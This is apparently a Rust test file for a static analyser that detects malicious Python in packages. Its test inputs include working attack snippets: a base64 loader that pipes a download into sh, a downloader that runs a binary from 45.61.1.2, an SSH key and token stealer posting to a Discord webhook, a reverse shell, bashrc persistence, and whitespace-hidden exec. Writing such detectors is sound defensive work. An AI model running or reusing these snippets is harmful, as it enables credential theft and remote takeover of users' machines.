//! The Python analyser on code shaped like real attacks, and on benign look-alikes.

use customs_analyze::{BehaviourKind as K, python};

fn kinds(src: &str) -> Vec<K> {
    let mut k: Vec<K> = python::analyze(src)
        .behaviours
        .iter()
        .map(|b| b.kind)
        .collect();
    k.sort();
    k.dedup();
    k
}

fn details(src: &str) -> Vec<String> {
    python::analyze(src)
        .behaviours
        .iter()
        .map(|b| format!("{:?}: {}", b.kind, b.detail))
        .collect()
}

#[test]
fn base64_loader_through_aliases() {
    let src = "import base64 as b\nfrom builtins import exec as run\npayload = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzQ1LjYxLjEuMi94IHwgc2giKQ=='\nrun(b.b64decode(payload))\n";
    let d = details(src);
    assert!(kinds(src).contains(&K::DecodeExecute), "{d:?}");
    // The decoded payload is analysed too: it runs a download piped into a shell.
    assert!(
        d.iter()
            .any(|x| x.contains("in the decoded payload") && x.contains("download piped into sh")),
        "{d:?}"
    );
}

#[test]
fn getattr_builtins_with_folded_name() {
    let src = "import zlib, base64\nf = getattr(__builtins__, 'ex' + 'ec')\nf(zlib.decompress(base64.b64decode(DATA)))\n";
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{:?}", details(src));
    assert!(k.contains(&K::Obfuscation), "{:?}", details(src));
}

#[test]
fn dunder_import_of_assembled_name() {
    let src = "m = __import__('sub' + 'process')\nm.Popen(['curl', 'http://45.61.1.2/a', '-o', '/tmp/a'])\n";
    let d = details(src);
    assert!(d.iter().any(|x| x.contains("subprocess.Popen")), "{d:?}");
    assert!(kinds(src).contains(&K::Obfuscation), "{d:?}");
}

#[test]
fn reversed_string_and_chr_join_decoders() {
    let src = "exec(')(x ;od tropmi'[::-1])\ns = ''.join(chr(c ^ 42) for c in blob)\neval(s)\n";
    let d = details(src);
    // [::-1] of a constant is folded; ''.join(chr(...^...)) is a decoder.
    assert!(
        d.iter().filter(|x| x.starts_with("DecodeExecute")).count() >= 1,
        "{d:?}"
    );
}

#[test]
fn download_write_chmod_run() {
    let src = r#"
import os, urllib.request, subprocess
def install():
    data = urllib.request.urlopen("http://45.61.1.2/payload").read()
    with open("/tmp/.x", "wb") as f:
        f.write(data)
    os.chmod("/tmp/.x", 0o755)
    subprocess.Popen(["/tmp/.x"], start_new_session=True)
"#;
    let k = kinds(src);
    assert!(k.contains(&K::DownloadExecute), "{:?}", details(src));
    assert!(k.contains(&K::SuspiciousDestination));
    assert!(k.contains(&K::HiddenProcess));
}

/// Calls of things whose origin is unknown (a parameter, a local object) are judged by
/// their method name alone when it writes or reads a file: the shortcut that skips other
/// unknown calls must not skip these.
#[test]
fn writes_through_objects_of_unknown_origin() {
    let src = r#"
import requests, subprocess
def save(fh, url):
    fh.write(requests.get(url).content)
    subprocess.call(["./update"])
"#;
    assert!(
        kinds(src).contains(&K::DownloadExecute),
        "{:?}",
        details(src)
    );
    let src = r#"
import os
def plant():
    os.path.expanduser("~/.config/autostart/update.desktop").write_text("Exec=/tmp/.x")
    os.path.expanduser("~/.aws/credentials").read_text()
"#;
    let d = details(src);
    assert!(
        d.iter().any(|d| d.starts_with("Persistence: writes")),
        "{d:?}"
    );
    assert!(
        d.iter().any(|d| d.starts_with("SecretRead: reads")),
        "{d:?}"
    );
    let src = r#"
import os
def steal(p):
    return p(os.path.expanduser("~/.ssh/id_rsa")).read_text()
"#;
    assert!(kinds(src).is_empty(), "{:?}", details(src));
}

#[test]
fn credential_stealer_to_webhook() {
    let src = r#"
import os, requests
from pathlib import Path
key = open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()
tok = os.environ.get("GITHUB_TOKEN")
requests.post("https://discord.com/api/webhooks/1/abc", json={"k": key, "t": tok, "env": dict(os.environ)})
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretRead), "{:?}", details(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", details(src));
    assert!(k.contains(&K::SuspiciousDestination));
}

#[test]
fn reverse_shell() {
    let src = "import socket,os,pty\ns=socket.socket()\ns.connect(('45.61.1.2',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n";
    assert!(kinds(src).contains(&K::ReverseShell), "{:?}", details(src));
}

#[test]
fn persistence_and_self_delete() {
    let src = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 /tmp/.x &')\nos.remove(__file__)\n";
    let k = kinds(src);
    assert!(k.contains(&K::Persistence), "{:?}", details(src));
    assert!(k.contains(&K::SelfDelete), "{:?}", details(src));
}

#[test]
fn whitespace_hidden_code() {
    let src = format!(
        "print('hello'){}; exec(__import__('base64').b64decode(x))\n",
        " ".repeat(300)
    );
    assert!(kinds(&src).contains(&K::Obfuscation));
    // On a later line, at the offset where the run of spaces starts.
    let src = format!(
        "import os\nprint('hello'){}; exec(x)\nz = 1\n",
        " ".repeat(300)
    );
    let facts = customs_analyze::python::analyze(&src);
    let hidden = facts
        .behaviours
        .iter()
        .find(|b| {
            b.detail
                .starts_with("code hidden after 300 spaces: ; exec(x)")
        })
        .expect("the hidden code is reported");
    assert_eq!(hidden.offset as usize, src.find("  ").expect("spaces"));
}

#[test]
fn python2_file_is_noted_not_fatal() {
    let facts = python::analyze("print 'hello'\nimport os\nos.system('id')\n");
    assert!(facts.parse_error.is_some());
    assert!(facts.behaviours.iter().any(|b| b.kind == K::ProcessSpawn));
}

#[test]
fn deep_nesting_is_bounded() {
    let src = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    let facts = python::analyze(&src);
    assert!(facts.parse_error.is_some());
}

#[test]
fn benign_library_code_stays_quiet() {
    // A library that runs git in a function, reads its own config, and fetches JSON.
    let src = r#"
import subprocess, json, os
import requests
def version():
    return subprocess.check_output(["git", "describe"]).decode()
def fetch(url):
    return requests.get(url, timeout=5).json()
CONFIG = os.path.join(os.path.dirname(__file__), "config.json")
"#;
    let k = kinds(src);
    assert!(
        !k.iter().any(|k| matches!(
            k,
            K::DecodeExecute | K::DownloadExecute | K::SecretExfiltration | K::SecretRead
        )),
        "{k:?}"
    );
    let facts = python::analyze(src);
    assert!(
        facts.behaviours.iter().all(|b| !b.top_level),
        "library calls are inside functions"
    );
}

#[test]
fn setuptools_build_ext_with_cmake_is_only_a_process() {
    let src = r#"
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext
class CMakeBuild(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."])
setup(name="x", cmdclass={"build_ext": CMakeBuild})
"#;
    assert_eq!(kinds(src), vec![K::ProcessSpawn]);
}

#[test]
fn sinks_inside_the_arguments_of_unremarkable_calls() {
    // The outer calls name known functions that no check is about, and their arguments
    // are left unevaluated there; every call among them is judged on its own.
    let src = "import base64, json, logging, os, subprocess\n\
               print(json.dumps(subprocess.run(['sh', '-c', base64.b64decode(C)])))\n\
               logging.info(exec(base64.b64decode(P)))\n\
               os.path.join(open(os.path.expanduser('~/.ssh/id_rsa')).read(), 'x')\n";
    let d = details(src);
    let k = kinds(src);
    assert!(k.contains(&K::DecodeExecute), "{d:?}");
    assert!(k.contains(&K::SecretRead), "{d:?}");
    assert!(
        d.iter().any(|x| x.contains("decoded data reaches exec()")),
        "{d:?}"
    );
    assert!(d.iter().any(|x| x.contains("subprocess.run")), "{d:?}");
}
